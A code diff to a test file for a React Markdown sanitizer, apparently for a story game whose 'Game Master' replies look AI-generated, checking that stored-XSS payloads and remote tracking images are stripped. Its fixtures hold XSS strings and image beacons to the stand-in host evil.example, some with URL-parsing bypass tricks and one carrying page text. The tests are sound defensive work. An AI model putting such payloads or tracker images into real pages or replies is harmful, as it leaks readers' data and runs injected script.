@@ -1,6 +1,8 @@
-import { renderToString } from "react-dom/server";
+import { renderToStaticMarkup, renderToString } from "react-dom/server";
 import { describe, expect, it } from "vitest";
-import { Markdown } from "./markdown.tsx";
+import { Markdown, type ImagePolicy } from "./markdown.tsx";
+import { ChatMessageView } from "./play/chat-message.tsx";
+import { renderMarkdown } from "./render-markdown.server.tsx";
 
 /**
  * Stored-XSS attempts an admin account (or a stolen one) could put into game content, guides or
@@ -31,14 +33,21 @@ const ATTACKS = {
   "formaction on a button": `<button formaction="javascript:alert(1)">x</button>`,
 } as const;
 
-function render(source: string) {
+function render(source: string, images: ImagePolicy = "site") {
   // React 19 adds `<link rel="preload" as="image">` hints for images it renders: its own, not the content's.
-  return renderToString(<Markdown>{source}</Markdown>).replace(/<link rel="preload" as="image" href="[^"]*"\/>/g, "");
+  return renderToString(<Markdown images={images}>{source}</Markdown>).replace(/<link rel="preload" as="image" href="[^"]*"\/>/g, "");
+}
+
+const POLICIES: ImagePolicy[] = ["site", "none"];
+
+/** Each case once per image policy: admin content ("site") and Game Master replies ("none"). */
+function underEachPolicy(cases: Record<string, string>) {
+  return POLICIES.flatMap((images) => Object.entries(cases).map(([name, source]) => [`${name} (images: ${images})`, source, images] as const));
 }
 
 describe("the Markdown renderer makes stored-XSS attempts inert", () => {
-  it.each(Object.entries(ATTACKS))("%s", (_name, attack) => {
-    const html = render(`Intro paragraph.\n\n${attack}\n\nClosing paragraph.`);
+  it.each(underEachPolicy(ATTACKS))("%s", (_name, attack, images) => {
+    const html = render(`Intro paragraph.\n\n${attack}\n\nClosing paragraph.`, images);
     expect(html).not.toMatch(/<script/i);
     expect(html).not.toMatch(/<(iframe|object|embed|form|style|meta|base|link)\b/i);
     expect(html).not.toMatch(/\son[a-z]+\s*=/i);
@@ -49,8 +58,9 @@ describe("the Markdown renderer makes stored-XSS attempts inert", () => {
     expect(html).toContain("<p>Closing paragraph.</p>");
   });
 
-  it("keeps an image without its handler", () => {
-    expect(render(ATTACKS["img onerror"])).toBe('<div class="prose-story"><img src="x"/></div>');
+  it("keeps a site image without its handler", () => {
+    const html = render(`<img src="/logo.png" alt="Logo" onerror="alert('xss')">`);
+    expect(html).toBe('<div class="prose-story"><img src="/logo.png" alt="Logo"/></div>');
   });
 
   it("keeps the formatting writers use: headings, emphasis, lists, tables, safe links", () => {
@@ -78,7 +88,85 @@ describe("the Markdown renderer makes stored-XSS attempts inert", () => {
     expect(html).toContain("<li>one</li>");
     expect(html).toContain("<table>");
     expect(html).toContain('<a href="/guides">Guides</a>');
-    expect(html).toContain('<a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">a site</a>');
+    expect(html).toContain('<a href="https://example.com/" target="_blank" rel="noopener noreferrer nofollow">a site</a>');
     expect(html).toContain("<p>Raw <strong>HTML</strong> is allowed.</p>");
+  });
+});
+
+/**
+ * Content that makes the reader's browser fetch from another server by itself: an image there
+ * tells it who reads the page and can carry the page's words in its URL. Each alt text says
+ * "tracker", so the tests can check what is left in the image's place.
+ */
+const REMOTE_IMAGES = {
+  "Markdown image": "![tracker](https://evil.example/t.png?story=secret)",
+  "http Markdown image": "![tracker](http://evil.example/t.png)",
+  "protocol-relative Markdown image": "![tracker](//evil.example/t.png)",
+  "reference-style image": "![tracker][pixel]\n\n[pixel]: https://evil.example/t.png",
+  "image inside a link": "[![tracker](https://evil.example/t.png)](/guides)",
+  "HTML image": `<img src="https://evil.example/t.png" alt="tracker">`,
+  "protocol-relative HTML image": `<img src="//evil.example/t.png" alt="tracker">`,
+  // Markdown escapes a backslash in a URL (%5C); in HTML it stays, and the browser reads it as "/".
+  "HTML image with a backslash": `<img src="/\\evil.example/t.png" alt="tracker">`,
+  "HTML image with a tab the browser drops": `<img src="/&#9;/evil.example/t.png" alt="tracker">`,
+  "HTML image with leading spaces": `<img src="  //evil.example/t.png" alt="tracker">`,
+  "picture with a source srcset": `<picture><source srcset="https://evil.example/t.png"><img alt="tracker"></picture>`,
+  "data: image": "![tracker](data:image/png;base64,iVBORw0KGgo=)",
+} as const;
+
+/** Every URL a tag of the rendered HTML would load or link to. */
+function urls(html: string) {
+  return [...html.matchAll(/\s(src|srcset|href)="([^"]*)"/g)].map((match) => match[2] ?? "");
+}
+
+describe("remote images", () => {
+  it.each(underEachPolicy(REMOTE_IMAGES))("%s becomes its alt text", (_name, source, images) => {
+    const html = render(source, images);
+    expect(html).not.toMatch(/<(img|source|picture)\b/);
+    expect(html).not.toContain("evil.example");
+    expect(html).not.toMatch(/\ssrc=/);
+    expect(html).toContain("tracker");
+  });
+
+  it("keeps images the site serves in admin content, and shows their alt text in replies", () => {
+    const source = "![The court's map](/images/court-map.png)";
+    const court = '<img src="/images/court-map.png" alt="The court&#x27;s map"/>';
+    expect(render(source, "site")).toBe(`<div class="prose-story"><p>${court}</p></div>`);
+    expect(render(source, "none")).toBe('<div class="prose-story"><p>The court&#x27;s map</p></div>');
+  });
+
+  it("keeps site images in the HTML rendered on the server for public pages", () => {
+    const html = renderMarkdown("![Map](/images/map.png) and ![tracker](//evil.example/t.png)");
+    expect(html).toContain('<img src="/images/map.png" alt="Map"/>');
+    expect(html).not.toContain("evil.example");
+  });
+
+  it("never shows an image in a Game Master reply, not even one from the site", () => {
+    const reply = [
+      "The curtain parts.",
+      "![the emperor](https://evil.example/e.png?seen=1) ![a seal](//evil.example/s.png) ![the hall](/logo.png)",
+      '<img src="https://evil.example/i.png" alt="a lantern">',
+    ].join("\n\n");
+    const html = renderToStaticMarkup(<ChatMessageView role="assistant" content={reply} createdAt="2026-01-01T00:00:00.000Z" />);
+    expect(html).not.toMatch(/<img\b/);
+    expect(html).not.toContain("evil.example");
+    expect(html).not.toContain("/logo.png");
+    expect(html).toContain("the emperor");
+    expect(html).toContain("a lantern");
+  });
+});
+
+describe("links in content", () => {
+  it.each(POLICIES)("open protocol-relative links as the external https links they are (images: %s)", (images) => {
+    const html = render('[a](//evil.example/x) and <a href="/\\evil.example/y">b</a>', images);
+    expect(html).toContain('<a href="https://evil.example/x" target="_blank" rel="noopener noreferrer nofollow">a</a>');
+    expect(html).toContain('<a href="https://evil.example/y" target="_blank" rel="noopener noreferrer nofollow">b</a>');
+    expect(urls(html).filter((url) => url.startsWith("//") || url.startsWith("/\\"))).toEqual([]);
+  });
+
+  it("keeps links within the site as they are", () => {
+    const html = render("[Guides](/guides) and [notes](#user-content-notes)");
+    expect(html).toContain('<a href="/guides">Guides</a>');
+    expect(html).toContain('<a href="#user-content-notes">notes</a>');
   });
 });
